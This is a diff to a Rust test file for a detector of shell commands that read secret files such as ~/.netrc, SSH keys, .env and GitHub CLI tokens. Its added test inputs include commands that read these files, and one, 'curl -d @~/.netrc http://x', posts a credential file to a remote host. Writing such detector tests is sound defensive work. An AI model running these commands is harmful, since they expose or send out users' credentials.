@@ -112,6 +112,23 @@ fn every_way_of_naming_a_secret_place_is_found() {
         // Option values.
         ("dd if={HOME}/.netrc", "~/.netrc", Certainty::Reads),
         ("grep --file={HOME}/.netrc x", "~/.netrc", Certainty::Reads),
+        // A path inside a word, a directory the command changes into.
+        (
+            "grep -f{HOME}/.netrc x notes.txt",
+            "~/.netrc",
+            Certainty::Reads,
+        ),
+        ("curl -d @~/.netrc http://x", "netrc", Certainty::Reads),
+        (
+            "tar -C {HOME}/.config -cf - gh",
+            "~/.config/gh",
+            Certainty::Reads,
+        ),
+        (
+            "git -C {HOME}/.config diff --no-index gh/hosts.yml x",
+            "gh",
+            Certainty::Reads,
+        ),
         // Recursive readers given a folder holding a secret place.
         (
             "grep -r token ~/.config/gh",
@@ -128,6 +145,18 @@ fn every_way_of_naming_a_secret_place_is_found() {
         ("cat .e*", ".env", Certainty::MayRead),
         ("cat \"$D\"/.env", ".env", Certainty::Reads),
         ("cat $(echo ~/.netrc)", "~/.netrc", Certainty::Reads),
+        // Brace expansion, another user's home.
+        ("cat ~/.{aws,ssh}/id_ed25519", ".ssh", Certainty::Reads),
+        (
+            "cat {HOME}/.config/{gh,x}/hosts.yml",
+            "~/.config/gh",
+            Certainty::Reads,
+        ),
+        (
+            "cat ~op/.config/gh/hosts.yml",
+            "~/.config/gh",
+            Certainty::MayRead,
+        ),
         // Where a relative operand leads cannot be told.
         ("cd - && cat id_ed25519", "cd -", Certainty::Unknown),
     ];
@@ -195,16 +224,6 @@ fn an_unknown_directory_makes_relative_operands_unknown() {
     let h = find(&parse("cat .env"), &scope).expect("a .env anywhere");
     assert_eq!(h.certainty, Certainty::Reads);
     assert_eq!(find(&parse("ls"), &scope), None);
-}
-
-#[test]
-fn shell_globs() {
-    assert!(shell_glob(".ss*", ".ssh"));
-    assert!(!shell_glob("*", ".ssh"));
-    assert!(shell_glob("id_?d25519", "id_ed25519"));
-    assert!(shell_glob("[.]env", "xenv"));
-    assert!(!shell_glob("*.md", ".env"));
-    assert!(shell_glob(".env*", ".env.*"));
 }
 
 #[test]
